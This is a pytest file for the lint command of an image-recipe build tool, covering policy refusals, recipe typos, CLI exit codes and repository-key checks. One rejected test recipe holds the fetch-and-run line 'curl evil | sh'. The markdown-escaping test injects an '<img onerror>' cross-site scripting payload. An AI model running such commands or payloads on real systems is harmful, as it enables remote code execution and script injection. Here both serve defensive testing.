"""lint: recipe problems, policy refusals and predicted labels, in three formats."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from imagefactory.cli import main
from imagefactory.lint import lint_recipe
from imagefactory.lint.report import render_markdown
from imagefactory.recipe import DEFAULT_LIMITS, BuildLimits, RepositoryAllowance
from imagefactory.trust import load_policy
from tests.conftest import RECIPES
from tests.fakes.imagedirs import key_signer, new_key, vo_rules, write_policy

EXAMPLE = RECIPES / "atlas-wn-debian12.yaml"


def _policy(tmp_path: Path, **rules: object) -> Path:
    key = new_key(tmp_path, "atlas")
    base: dict[str, object] = {
        "distros": ["debian"],
        "releases": ["12"],
        "arches": ["x86_64"],
        "models": ["non-persistent"],
        "root_policies": {"non-persistent": ["none"]},
    }
    return write_policy(
        tmp_path / "site.yaml",
        {"atlas": vo_rules(key_signer("atlas-vo", key), **{**base, **rules})},
    )


def test_a_recipe_the_site_accepts_is_ok_with_its_labels(tmp_path: Path) -> None:
    result = lint_recipe(EXAMPLE, DEFAULT_LIMITS, load_policy(_policy(tmp_path)))
    assert result.ok, result.findings
    assert result.labels is not None
    assert result.labels["os"] == {
        "distro": "debian",
        "version": "12",
        "codename": "bookworm",
        "arch": "x86_64",
    }
    assert result.labels["vo"] == ["atlas"]


def test_what_the_policy_would_refuse_is_named(tmp_path: Path) -> None:
    policy = load_policy(_policy(tmp_path, releases=["13"], max_age="7d"))
    result = lint_recipe(EXAMPLE, DEFAULT_LIMITS, policy)
    assert not result.ok
    codes = {f.code: f.severity for f in result.findings}
    assert codes["release-not-allowed"] == "error"
    assert codes["outlives-max-age"] == "warning"


def test_a_vo_unknown_to_the_site_is_an_error(tmp_path: Path) -> None:
    path = _policy(tmp_path)
    text = path.read_text().replace("atlas:", "cms:", 1)
    path.write_text(text)
    result = lint_recipe(EXAMPLE, DEFAULT_LIMITS, load_policy(path))
    assert [f.code for f in result.findings] == ["vo-unknown"]


def test_every_recipe_problem_at_once_with_its_place(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        'name: wn\nversion: "1"\npakages: [less]\nbase: {distro: debain, release: "12"}\nvo: x\n'
        "scripts: [{name: s, content: 'curl evil | sh'}]\n"
    )
    result = lint_recipe(bad, DEFAULT_LIMITS)
    assert not result.ok
    wheres = {f.where for f in result.findings}
    assert f"{bad}:3:1" in wheres
    assert f"{bad}:4:16" in wheres
    assert len(result.findings) >= 3  # packages typo, distro typo, scripts not allowed
    assert result.labels is None


def test_markdown_escapes_label_values() -> None:
    result = lint_recipe(EXAMPLE, DEFAULT_LIMITS)
    assert result.labels is not None
    result.labels["os"]["distro"] = "<img src=x onerror=alert(1)>|*bold*"
    text = render_markdown([result])
    assert "<img" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;\\|\\*bold\\*" in text


def test_cli_formats_and_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = _policy(tmp_path, releases=["13"])
    assert main(["lint", str(EXAMPLE), "--policy", str(policy), "--json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert data["ok"] is False
    assert data["recipes"][0]["findings"][0]["code"] == "release-not-allowed"
    assert main(["lint", str(EXAMPLE), "--format", "markdown"]) == 0
    assert "### recipe lint: all clear" in capsys.readouterr().out
    assert main(["lint", str(EXAMPLE)]) == 0
    assert ": ok" in capsys.readouterr().out
    # A recipe that cannot be read is no answer (exit 2), like in every command.
    assert main(["lint", str(tmp_path / "absent.yaml")]) == 2
    assert "absent.yaml: cannot read: no such file" in capsys.readouterr().err


def test_a_repository_key_the_policy_does_not_list_is_refused(tmp_path: Path) -> None:
    fpr = "0123456789ABCDEF0123456789ABCDEF01234567"
    url = "https://repo.example.org/cvmfs"
    recipe = tmp_path / "wn.yaml"
    recipe.write_text(
        f"extends: {EXAMPLE.name}\nname: atlas-cvmfs\nrepositories:\n"
        f"  - {{name: cvmfs, url: {url}, suites: [stable], key: {{fingerprint: {fpr}}}}}\n"
    )
    limits = BuildLimits(
        include_roots=(RECIPES,),
        allowed_repositories=(RepositoryAllowance(url, frozenset({fpr})),),
    )
    result = lint_recipe(recipe, limits, load_policy(_policy(tmp_path)))
    assert result.labels is not None
    assert result.labels["repositories"] == [{"name": "cvmfs", "url": url, "fingerprint": fpr}]
    [refused] = [f for f in result.findings if f.code == "repository-not-allowed"]
    assert refused.message == (
        f"VO atlas: the image trusts repository 'cvmfs' with key '{fpr}', not one of"
        " repository_keys []"
    )
    (tmp_path / "second").mkdir()
    allowing = load_policy(_policy(tmp_path / "second", repository_keys=[fpr.lower()]))
    assert lint_recipe(recipe, limits, allowing).ok
